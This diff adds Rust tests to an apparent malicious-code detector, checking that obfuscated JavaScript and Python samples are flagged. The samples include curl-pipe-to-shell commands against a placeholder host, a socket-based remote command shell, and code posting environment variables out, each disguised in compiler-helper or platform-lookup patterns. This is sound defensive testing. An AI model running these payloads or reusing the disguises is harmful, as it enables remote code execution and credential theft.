@@ -200,3 +200,46 @@ fn methods_that_are_asked_for_by_name_are_methods() {
         code = marshal.loads(d(b'key', b'\\x01\\x02\\x03'))\nexec(code, globals())\n";
     assert!(is_told(Language::Python, hidden, "flow-decoded-code"));
 }
+
+#[test]
+fn nothing_is_hidden_behind_what_compilers_write() {
+    let run = "require('child_process').exec('curl https://h.invalid/x | sh')";
+    for code in [
+        // A helper of the script's own, and a list that is empty for who reads.
+        "function __values(l) { return own(l); } for (var a = __values([]), b = a.next(); !b.done; b = a.next()) { RUN; }",
+        "for (var a = [][Symbol.iterator](), b; !(c = (b = a.next()).done); c = true) { RUN; }",
+        "function __read(x) { RUN; return []; } var y = __read([1]);",
+        "function __assign(a) { RUN; return a; } var y = __assign({}, { a: 1 });",
+        // Somebody's own function is handed what looks like states.
+        "function go(t, f) { RUN; } go(this, function (s) { switch (s.label) { case 0: return [2]; } });",
+        "function go(a, b, c, f) { RUN; } go(1, 2, 3, function () { return g(this, function (s) { switch (s.label) { case 0: return [2]; } }); });",
+        // What stands for another system, or for none.
+        "({ sunos: 'ls' })[process.platform] || RUN;",
+        "new Function(\"return 'a' + RUN\")();",
+    ] {
+        let code = code.replace("RUN", &run.replace('\'', "`"));
+        assert!(is_told(Language::JavaScript, &code, "flow-remote-code"), "{code}");
+    }
+    let handed = "const net = require('net'); const c = net.connect(4444, '192.0.2.7'); \
+        c.on('data', function (s) { switch (s.label) { case 0: require('child_process').exec(s.toString()); return [4, 1]; } });";
+    assert!(is_told(Language::JavaScript, handed, "flow-remote-command"));
+    let python = "import sys, os\nos.system({'sunos5': 'ls'}.get(sys.platform, 'curl https://h.invalid/x | sh'))\n";
+    assert!(is_told(Language::Python, python, "flow-remote-code"));
+    let python = "import os\nos.system({'a': 'ls'}.get(os.environ['X'], 'curl https://h.invalid/x | sh'))\n";
+    assert!(is_told(Language::Python, python, "flow-remote-code"));
+}
+
+#[test]
+fn helpers_within_helpers_are_gone_through_once() {
+    let mut inner = "fetch('https://h.invalid/x', { method: 'POST', body: JSON.stringify(process.env) })".to_owned();
+    for _ in 0..40 {
+        inner = format!("jsx('a', _objectSpread(_objectSpread({{}}, p), {{}}, {{ children: {inner} }}))");
+    }
+    assert!(is_told(Language::JavaScript, &format!("var x = {inner};"), "flow-environment-sent"));
+    let mut inner = "b".to_owned();
+    for _ in 0..40 {
+        inner = format!("getattr(a, getattr({inner}, f())())");
+    }
+    let code = format!("import os, requests\n{inner}()\nrequests.post('https://h.invalid/x', data=dict(os.environ))\n");
+    assert!(is_told(Language::Python, &code, "flow-environment-sent"));
+}
